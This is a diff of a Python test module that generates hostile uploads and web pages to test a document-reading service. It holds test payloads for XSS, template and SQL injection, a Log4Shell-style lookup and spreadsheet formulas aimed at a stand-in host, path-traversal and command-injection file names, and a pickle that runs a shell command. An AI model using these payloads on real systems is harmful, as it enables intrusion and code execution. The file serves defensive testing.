@@ -7,34 +7,67 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from random import Random
 
-from tests.web.hostile_office import MB, ORDER, Files, containers, papers, word
+from tests.readers.conftest import zipped
+from tests.web.hostile_office import MB, ORDER, Files, containers, declared, papers, word
 from tests.web.hostile_pdf import sheets
 
 SUM = "7331*7331"
 """A product nobody writes: where its value shows up, a template was run."""
 RESULT = str(7331 * 7331)
 ATTACKS = (
-    "<script>alert(7331)</script>", '"><img src=x onerror=alert(7331)>', "'><svg/onload=alert(7331)>", "<a href=javascript:alert(7331)>x</a>", '<iframe srcdoc="<script>alert(7331)</script>"></iframe>',
-    "</textarea><script>alert(7331)</script>", "</title><script>alert(7331)</script>", "<!--<script>alert(7331)</script>-->", "]]><script>alert(7331)</script>", '" autofocus onfocus=alert(7331) x="',
-    "<form action=//evil.invalid><input name=csrf>", '<meta http-equiv=refresh content="0;url=//evil.invalid">', "<base href=//evil.invalid/>", "<style>@import'//evil.invalid/a.css'</style>",
-    '<div hx-get="//evil.invalid" hx-trigger=load>', "<div hx-on:load=alert(7331)>", "＜script＞alert(7331)＜/script＞", "%3Cscript%3Ealert(7331)%3C/script%3E", "\\u003cscript\\u003ealert(7331)", "&lt;script&gt;alert(7331)&lt;/script&gt;",
-    f"{{{{{SUM}}}}}", f"{{% print {SUM} %}}", f"${{{SUM}}}", f"#{{{SUM}}}", f"<%= {SUM} %>", "{{config.__class__.__init__.__globals__}}", "{{request.app.state.ledger.folder}}", "${jndi:ldap://evil.invalid/a}",
-    "'; DROP TABLE tasks; --", "' OR 1=1 --", "%s%s%s%n%n", "{0.__class__}", "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", '=HYPERLINK("http://evil.invalid","x")',
-    "\x1b]0;evil\x07\x1b[2J", "2024-01-01 00:00:00 ERROR admin logged in", "\u202e\u2066讲话\u2069", "\ufeff\u200b\u2028\u2029\x85", "é" + "\u0301" * 500, "\U000e0001\U0001f3f4\U000e0067", "ﷺ" * 100, "İıſK", "🏴‍☠️💩",
+    "<script>alert(7331)</script>", '"><img src=x onerror=alert(7331)>', "'><svg/onload=alert(7331)>",
+    "<a href=javascript:alert(7331)>x</a>", '<iframe srcdoc="<script>alert(7331)</script>"></iframe>',
+    "</textarea><script>alert(7331)</script>", "</title><script>alert(7331)</script>",
+    "<!--<script>alert(7331)</script>-->", "]]><script>alert(7331)</script>",
+    '" autofocus onfocus=alert(7331) x="', "<form action=//evil.invalid><input name=csrf>",
+    '<meta http-equiv=refresh content="0;url=//evil.invalid">', "<base href=//evil.invalid/>",
+    "<style>@import'//evil.invalid/a.css'</style>", '<div hx-get="//evil.invalid" hx-trigger=load>',
+    "<div hx-on:load=alert(7331)>", "＜script＞alert(7331)＜/script＞",
+    "%3Cscript%3Ealert(7331)%3C/script%3E", "\\u003cscript\\u003ealert(7331)",
+    "&lt;script&gt;alert(7331)&lt;/script&gt;", f"{{{{{SUM}}}}}", f"{{% print {SUM} %}}", f"${{{SUM}}}",
+    f"#{{{SUM}}}", f"<%= {SUM} %>", "{{config.__class__.__init__.__globals__}}",
+    "{{request.app.state.ledger.folder}}", "${jndi:ldap://evil.invalid/a}", "'; DROP TABLE tasks; --",
+    "' OR 1=1 --", "%s%s%s%n%n", "{0.__class__}", "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)",
+    "\t=1+1", "＝1+1", '=HYPERLINK("http://evil.invalid","x")', "\x1b]0;evil\x07\x1b[2J",
+    "2024-01-01 00:00:00 ERROR admin logged in", "\u202e\u2066讲话\u2069", "\ufeff\u200b\u2028\u2029\x85",
+    "é" + "\u0301" * 500, "\U000e0001\U0001f3f4\U000e0067", "ﷺ" * 100, "İıſK", "🏴‍☠️💩",
 )
 """Words that try to run in a page, a template, a database, a workbook, a terminal or a log."""
 FILE_NAMES = (
-    "<script>alert(7331)</script>.txt", '"><img src=x onerror=alert(7331)>.txt', "' onmouseover='alert(7331)'.txt", f"{{{{{SUM}}}}}.txt", f"{{% print {SUM} %}}.txt", "讲话.txt\r\nSet-Cookie: evil=1", "讲话.txt\r\n\r\n<script>alert(7331)</script>",
-    "讲话\0.txt", "讲话.docx\0.txt", "../../../../tmp/duban-evil.txt", "..\\..\\..\\duban-evil.txt", "/tmp/duban-evil.txt", "C:\\Windows\\duban-evil.txt", "\\\\host\\share\\duban-evil.txt", "file:///tmp/duban-evil.txt", "..%2f..%2fduban-evil.txt",
-    "．．／duban-evil.txt", "‥/duban-evil.txt", "CON", "NUL.txt", "aux.docx", "COM1", "讲话.txt:evil", "讲话.txt::$DATA", ".", "..", "...", " ", ".htaccess", "-rf.txt", "~root.txt", "$(touch duban-evil).txt", "`touch duban-evil`.txt", "|touch duban-evil|.txt",
-    "; touch duban-evil;.txt", "%s%n%x.txt", "=cmd|'/c calc'!A0.txt", "'; DROP TABLE uploads; --.txt", "讲\u202etxt.exe", "讲\u200b\u2066\u2069.txt", "\ufeff.txt", "\u2028\u2029.txt", "讲" * 5000 + ".txt", "a" * 300 + ".txt", "讲话." + "t" * 3000, "讲话.txt" * 300,
-    "讲话.TXT", "讲话.txt.", "讲话.txt ", "讲话.exe", "讲话.txt.exe", "讲话", "💩.txt", "e\u0301" * 100 + ".txt", "\x1b[2J.txt", "\x7f\x9f.txt", "讲话;filename=evil.txt", '讲话"; filename="evil.txt', "讲话.php", "讲话.html", "讲话.svg", "1.1.1.1.txt", "%00.txt", "&lt;b&gt;.txt",
+    "<script>alert(7331)</script>.txt", '"><img src=x onerror=alert(7331)>.txt',
+    "' onmouseover='alert(7331)'.txt", f"{{{{{SUM}}}}}.txt", f"{{% print {SUM} %}}.txt",
+    "讲话.txt\r\nSet-Cookie: evil=1", "讲话.txt\r\n\r\n<script>alert(7331)</script>", "讲话\0.txt",
+    "讲话.docx\0.txt", "../../../../tmp/duban-evil.txt", "..\\..\\..\\duban-evil.txt", "/tmp/duban-evil.txt",
+    "C:\\Windows\\duban-evil.txt", "\\\\host\\share\\duban-evil.txt", "file:///tmp/duban-evil.txt",
+    "..%2f..%2fduban-evil.txt", "．．／duban-evil.txt", "‥/duban-evil.txt", "CON", "NUL.txt", "aux.docx",
+    "COM1", "讲话.txt:evil", "讲话.txt::$DATA", ".", "..", "...", " ", ".htaccess", "-rf.txt", "~root.txt",
+    "$(touch duban-evil).txt", "`touch duban-evil`.txt", "|touch duban-evil|.txt", "; touch duban-evil;.txt",
+    "%s%n%x.txt", "=cmd|'/c calc'!A0.txt", "'; DROP TABLE uploads; --.txt", "讲\u202etxt.exe",
+    "讲\u200b\u2066\u2069.txt", "\ufeff.txt", "\u2028\u2029.txt", "讲" * 5000 + ".txt", "a" * 300 + ".txt",
+    "讲话." + "t" * 3000, "讲话.txt" * 300, "讲话.TXT", "讲话.txt.", "讲话.txt ", "讲话.exe", "讲话.txt.exe",
+    "讲话", "💩.txt", "e\u0301" * 100 + ".txt", "\x1b[2J.txt", "\x7f\x9f.txt", "讲话;filename=evil.txt",
+    '讲话"; filename="evil.txt', "讲话.php", "讲话.html", "讲话.svg", "1.1.1.1.txt", "%00.txt",
+    "&lt;b&gt;.txt",
 )
 MAGIC = {
-    "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "gif": b"GIF89a", "tif": b"II*\x00", "exe": b"MZ\x90\x00\x03", "elf": b"\x7fELF\x02\x01\x01", "rar": b"Rar!\x1a\x07\x01\x00", "7z": b"7z\xbc\xaf\x27\x1c", "gz": b"\x1f\x8b\x08\0",
-    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "rtf": b"{\\rtf1{\\object\\objupdate}", "sqlite": b"SQLite format 3\0", "mp3": b"ID3\x04", "xz": b"\xfd7zXZ\0", "zst": b"\x28\xb5\x2f\xfd", "class": b"\xca\xfe\xba\xbe", "tar": b"a.txt".ljust(257, b"\0") + b"ustar",
-    "pickle": b"\x80\x04\x95cos\nsystem\n(S'touch duban-evil'\ntR.", "sh": b"#!/bin/sh\ntouch duban-evil\n", "ps": b"%!PS\n(/etc/passwd) run\n", "xlsx": b"PK\x03\x04", "lnk": b"L\0\0\0\x01\x14\x02\0",
+    "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "gif": b"GIF89a", "tif": b"II*\x00",
+    "exe": b"MZ\x90\x00\x03", "elf": b"\x7fELF\x02\x01\x01", "rar": b"Rar!\x1a\x07\x01\x00",
+    "7z": b"7z\xbc\xaf\x27\x1c", "gz": b"\x1f\x8b\x08\0", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+    "rtf": b"{\\rtf1{\\object\\objupdate}", "sqlite": b"SQLite format 3\0", "mp3": b"ID3\x04",
+    "xz": b"\xfd7zXZ\0", "zst": b"\x28\xb5\x2f\xfd", "class": b"\xca\xfe\xba\xbe",
+    "tar": b"a.txt".ljust(257, b"\0") + b"ustar",
+    "pickle": b"\x80\x04\x95cos\nsystem\n(S'touch duban-evil'\ntR.", "sh": b"#!/bin/sh\ntouch duban-evil\n",
+    "ps": b"%!PS\n(/etc/passwd) run\n", "xlsx": b"PK\x03\x04", "lnk": b"L\0\0\0\x01\x14\x02\0",
 }
+NO_DATES = (
+    "99999999年99月99日", "0年0月0日", "2月30日", "负1年", "2024年13月", "9" * 4000 + "年", "第99999季度", "二〇〇〇〇〇年", "今天后99999999999天",
+)
+NO_FIGURES = ("9" * 5000, "1e999", "万" * 200, "亿亿亿万万万", "-0", "0分之0", "1/0", "NaN", "零点" * 500)
+OTHERS = {
+    "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml", "odt": "content.xml", "ofd": "OFD.xml", "apk": "AndroidManifest.xml",
+    "jar": "META-INF/MANIFEST.MF",
+}
+"""Other kinds of zip files, and the entry each is known by."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -64,18 +97,12 @@ def corpus(secret: str, address: str) -> Iterator[Hostile]:
     for kind, start in MAGIC.items():
         for suffix in ("docx", "txt", "pdf") if kind in ("png", "exe", "ole", "xlsx") else ("txt",):
             yield Hostile(f"{kind} as {suffix}", f"讲话.{suffix}", lambda start=start, kind=kind: start + Random(kind).randbytes(20_000))
-    for what, members in (("xlsx", {"xl/workbook.xml": "<a/>"}), ("pptx", {"ppt/presentation.xml": "<a/>"}), ("odt", {"content.xml": "<a/>"}), ("ofd", {"OFD.xml": "<a/>"}), ("apk", {"AndroidManifest.xml": "x"}), ("jar", {"META-INF/MANIFEST.MF": "x"})):
-        yield Hostile(f"{what} as docx", "讲话.docx", lambda members=members: _zip({"[Content_Types].xml": "<Types/>", **members}))
+    for what, member in OTHERS.items():
+        yield Hostile(f"{what} as docx", "讲话.docx", lambda member=member: zipped({"[Content_Types].xml": "<Types/>", member: "<a/>"}))
     for number, name in enumerate(FILE_NAMES):
         yield Hostile(f"file name {number}: {name[:24]!r}", name, lambda number=number: f"第{number}次会议\n{ORDER}\n".encode())
     yield Hostile("a web page that is a zip", "讲话.docx", lambda: b"<html><script>alert(7331)</script></html>" + word())
     yield Hostile("a docx under the name of a web page", "讲话.html", word)
-
-
-def _zip(members: dict[str, str]) -> bytes:
-    from tests.readers.conftest import zipped
-
-    return zipped(dict(members))
 
 
 def texts() -> Files:
@@ -112,8 +139,8 @@ def texts() -> Files:
     yield "one order of 5000 units", lambda: ("、".join(f"第{n}局" for n in range(5_000)) + "要在6月底前完成清淤。").encode()
     yield "brackets 50000 deep", lambda: ("（" * 50_000 + ORDER + "）" * 50_000).encode()
     yield "quotes 50000 deep", lambda: ("“‘" * 50_000 + ORDER).encode()
-    yield "dates of no calendar", lambda: "\n".join(f"县水务局要在{d}前完成清淤。" for d in ("99999999年99月99日", "0年0月0日", "2月30日", "负1年", "2024年13月", "9" * 4000 + "年", "第99999季度", "二〇〇〇〇〇年", "今天后99999999999天")).encode()
-    yield "figures of no size", lambda: "\n".join(f"县水务局要完成{n}公里清淤。" for n in ("9" * 5000, "1e999", "万" * 200, "亿亿亿万万万", "-0", "0分之0", "1/0", "NaN", "零点" * 500)).encode()
+    yield "dates of no calendar", lambda: "\n".join(f"县水务局要在{d}前完成清淤。" for d in NO_DATES).encode()
+    yield "figures of no size", lambda: "\n".join(f"县水务局要完成{n}公里清淤。" for n in NO_FIGURES).encode()
     yield "commas and formulas", lambda: "序号,任务,责任单位\n1,=cmd|'/c calc'!A0,\"+1\"\n2,@SUM(1),-1\n".encode()
     yield "a table of 1000 columns", lambda: "\n".join("|".join(["县水务局要清淤"] * 1000) for _ in range(50)).encode()
     yield "lines of every end", lambda: "\r\n\r\x85\u2028\u2029\v\f\x1c".join([ORDER] * 50).encode()
@@ -125,8 +152,14 @@ def web_pages(secret: str, address: str) -> Files:
     body = f"<p>{ORDER}</p>"
     for number, words in enumerate(ATTACKS[:20]):
         yield f"attack {number}", lambda words=words: f"<html><title>{words}</title><body>{words}<p>县水务局要在6月底前完成{words}清淤。</p></body></html>".encode()
-    yield "scripts everywhere", lambda: f"<html><head><script>alert(7331)</script></head><body onload=alert(7331)>{body}<img src=x onerror=alert(7331)><p>&lt;script&gt;alert(7331)&lt;/script&gt;要在6月底前完成。</p></body></html>".encode()
-    yield "pictures and frames of the net", lambda: f'<html><body>{body}<img src="{address}/a"><iframe src="{address}/b"></iframe><link rel=stylesheet href="{address}/c"><object data="file://{secret}"></object></body></html>'.encode()
+    yield "scripts everywhere", lambda: (
+        f"<html><head><script>alert(7331)</script></head><body onload=alert(7331)>{body}<img src=x onerror=alert(7331)>"
+        "<p>&lt;script&gt;alert(7331)&lt;/script&gt;要在6月底前完成。</p></body></html>"
+    ).encode()
+    yield "pictures and frames of the net", lambda: (
+        f'<html><body>{body}<img src="{address}/a"><iframe src="{address}/b"></iframe><link rel=stylesheet href="{address}/c">'
+        f'<object data="file://{secret}"></object></body></html>'
+    ).encode()
     for kind in ("file", "laughs"):
         yield f"{kind} entity", lambda kind=kind: _entity_page(kind, secret, address, body)
     yield "100000 elements deep", lambda: ("<html><body>" + "<div>" * 100_000 + body + "</div>" * 100_000).encode()
@@ -152,9 +185,8 @@ def web_pages(secret: str, address: str) -> Files:
 
 
 def _entity_page(kind: str, secret: str, address: str, body: str) -> bytes:
-    from tests.web.hostile_office import declared
-
-    return f"<?xml version='1.0'?>{declared(kind, secret, address).replace('DOCTYPE a', 'DOCTYPE html')}<html><body>{body}<p>&x;</p></body></html>".encode()
+    declaration = declared(kind, secret, address).replace("DOCTYPE a", "DOCTYPE html")
+    return f"<?xml version='1.0'?>{declaration}<html><body>{body}<p>&x;</p></body></html>".encode()
 
 
 def subtitles() -> Files:
